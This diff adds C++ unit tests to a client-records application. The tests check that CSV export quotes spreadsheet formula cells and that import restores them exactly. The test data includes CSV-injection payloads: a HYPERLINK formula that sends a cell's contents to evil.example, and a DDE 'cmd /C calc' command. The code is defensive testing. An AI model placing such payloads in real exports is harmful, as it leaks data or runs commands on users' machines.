@@ -177,3 +177,42 @@ TEST_F(ClientCsvTest, ExportThenImportIntoAnEmptyStore_ReproducesClientsAndGuard
     for (size_t i = 0; i < before.size(); ++i)
         EXPECT_EQ(strip(ClientStore(*store).get(before[i].id)), strip(ClientStore(empty).get(after[i].id)));
 }
+
+TEST(Csv, CellsASpreadsheetWouldRunAsFormulas_AreTextAndComeBackExactly) {
+    for (std::string formula : {"=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Click\")", "+cmd|' /C calc'!A0",
+                                "@SUM(1+1)", "-2+3", "\t=1", "\r=1"}) {
+        std::string cell = csvCell(formula);
+        EXPECT_EQ(cell, "'" + formula);
+        EXPECT_EQ(csvCellValue(cell), formula);
+    }
+    for (std::string plain : {"Zoë", "O'Brien", "'", "''", "'=x", "''+44", "", "a=b", "נועה"})
+        EXPECT_EQ(csvCellValue(csvCell(plain)), plain) << plain;
+    EXPECT_EQ(csvCell("O'Brien"), "O'Brien");
+    EXPECT_EQ(csvCell("'=x"), "''=x") << "a leading apostrophe of the value itself is kept";
+}
+
+TEST_F(ClientCsvTest, FormulaNamesAreExportedAsText_AndImportedBackExactly) {
+    std::vector<std::string> names{"=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Click\")", "+cmd|' /C calc'!A0",
+                                   "@SUM(1+1)", "-2+3", "'=already quoted"};
+    for (const std::string& n : names) {
+        Client c;
+        c.givenName = n;
+        c.familyName = "Test";
+        c.dateOfBirth = "2024-01-01";
+        ClientStore(*store).create(c, actor);
+    }
+    std::string csv = ClientCsv(*store).exportText(StatusFilter::All, actor);
+    auto doc = parseCsv(csv);
+    ASSERT_EQ(doc.records.size(), names.size() + 1);
+    for (size_t r = 1; r < doc.records.size(); ++r)
+        for (const std::string& field : doc.records[r].fields)
+            if (!field.empty())
+                EXPECT_EQ(std::string("=+-@\t\r").find(field[0]), std::string::npos) << "a formula cell: " << field;
+    Store other(dir / "other.db");
+    ClientCsv(other).import(csv, actor);
+    std::vector<std::string> back;
+    for (auto& s : ClientStore(other).list(StatusFilter::All)) back.push_back(ClientStore(other).get(s.id).givenName);
+    std::sort(back.begin(), back.end());
+    std::sort(names.begin(), names.end());
+    EXPECT_EQ(back, names);
+}
